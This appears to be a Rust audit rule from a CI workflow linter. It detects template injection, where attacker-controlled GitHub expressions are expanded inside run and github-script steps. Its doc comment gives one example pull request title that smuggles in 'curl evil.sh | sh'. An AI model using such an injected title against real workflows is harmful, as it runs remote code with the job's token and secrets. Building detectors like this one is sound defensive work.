//! The `template-injection` audit: the docs are the doc comment of the `rule_meta!` below.

use pipeguard_core::{Confidence, Severity, rule_meta};
use regex::Regex;

use super::{Audit, Meta, NodeSink, Sink};
use crate::model::{Job, Step, Workflow};
use crate::yaml::Node;

pub struct TemplateInjection;

rule_meta! {
    /// ## What it does
    /// Flags attacker-controlled expressions (`${{ github.event.issue.title }}`,
    /// `${{ github.head_ref }}` …) expanded inside `run:` scripts and
    /// `actions/github-script` code.
    ///
    /// ## Why is this bad
    /// Expressions are substituted into the script text before the shell runs
    /// it: a pull request titled `a"; curl evil.sh | sh; echo "` runs that
    /// command with the job's token and secrets.
    static META = {
        id: "template-injection",
        name: "Attacker-controlled expression in a script",
        severity: Severity::High,
        confidence: Confidence::High,
        fix: "Move the expression to `env:` and use the variable, quoted, in the script (`\"$VALUE\"`).",
        cwe: &[94, 78],
    };
}

/// Contexts an outsider controls: titles, bodies, branch names, commit
/// messages and author fields of events they can create.
pub fn untrusted_regex() -> &'static Regex {
    static RE: std::sync::OnceLock<Regex> = std::sync::OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(
            r"(?x)
            github\.head_ref
          | github\.event\.(?:issue|pull_request|discussion|comment|review|review_comment)\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)
          | github\.event\.(?:pull_request|issue)\.(?:user|head\.user)\.login
          | github\.event\.commits(?:\[[^\]]*\]|\.\*)?\.(?:message|author\.(?:email|name))
          | github\.event\.head_commit\.(?:message|author\.(?:email|name))
          | github\.event\.pages(?:\[[^\]]*\]|\.\*)?\.page_name
          | github\.event\.workflow_run\.(?:head_branch|head_commit\.(?:message|author\.(?:email|name))|display_title)
          | github\.event\.inputs\.[A-Za-z0-9_-]+
          | inputs\.[A-Za-z0-9_-]+",
        )
        .expect("the untrusted-context pattern is a valid regex")
    })
}

fn expr_regex() -> &'static Regex {
    static RE: std::sync::OnceLock<Regex> = std::sync::OnceLock::new();
    RE.get_or_init(|| Regex::new(r"\$\{\{(.*?)\}\}").expect("valid regex"))
}

/// Line of the `i`-th line of a scalar's text: block scalars (`|`, `>`)
/// start on the line after their indicator.
fn text_line(out: &Sink, node: &Node, i: usize) -> u32 {
    let block = out.line_text(node.line).is_some_and(|l| {
        let t = l.trim_end();
        t.ends_with('|')
            || t.ends_with('>')
            || t.ends_with("|-")
            || t.ends_with(">-")
            || t.ends_with("|+")
            || t.ends_with(">+")
    });
    node.line + i as u32 + u32::from(block)
}

/// Reports each untrusted expression inside `node`'s text.
pub fn scan_script(wf: &Workflow, job: &Job, node: &Node, what: &str, out: &mut Sink) {
    let Some(text) = node.str() else { return };
    // `inputs.*` are controlled by whoever can dispatch the workflow or by
    // the caller of an action: report them, but not in push-only workflows.
    let inputs_matter = wf.triggered_by("workflow_dispatch")
        || wf.kind == crate::model::FileKind::CompositeAction
        || wf.triggered_by("workflow_call");
    for (i, line) in text.lines().enumerate() {
        for cap in expr_regex().captures_iter(line) {
            let expr = cap.get(1).map_or("", |m| m.as_str()).trim();
            let Some(m) = untrusted_regex().find(expr) else {
                continue;
            };
            let input =
                m.as_str().starts_with("inputs.") || m.as_str().starts_with("github.event.inputs.");
            if input && !inputs_matter {
                continue;
            }
            let at = Node {
                line: text_line(out, node, i),
                col: node.col,
                key_line: 0,
                kind: crate::yaml::Kind::Scalar(None),
            };
            out.report_with(
                &META,
                &at,
                &format!("{}:{what}:{}", job.id, m.as_str()),
                format!("`${{{{ {expr} }}}}` is expanded into a {what} of job `{}`; whoever controls `{}` can run code there.", job.id, m.as_str()),
                Some(format!("env:\n  VALUE: ${{{{ {expr} }}}}\n# …and use \"$VALUE\" in the script")),
            );
        }
    }
}

impl Audit for TemplateInjection {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn step(&self, wf: &Workflow, job: &Job, step: &Step, out: &mut Sink) {
        if let Some(run) = step.run {
            scan_script(wf, job, run, "run script", out);
        }
        if step
            .action()
            .is_some_and(|a| a.starts_with("actions/github-script"))
            && let Some(script) = step.input("script")
        {
            scan_script(wf, job, script, "github-script", out);
        }
    }
}
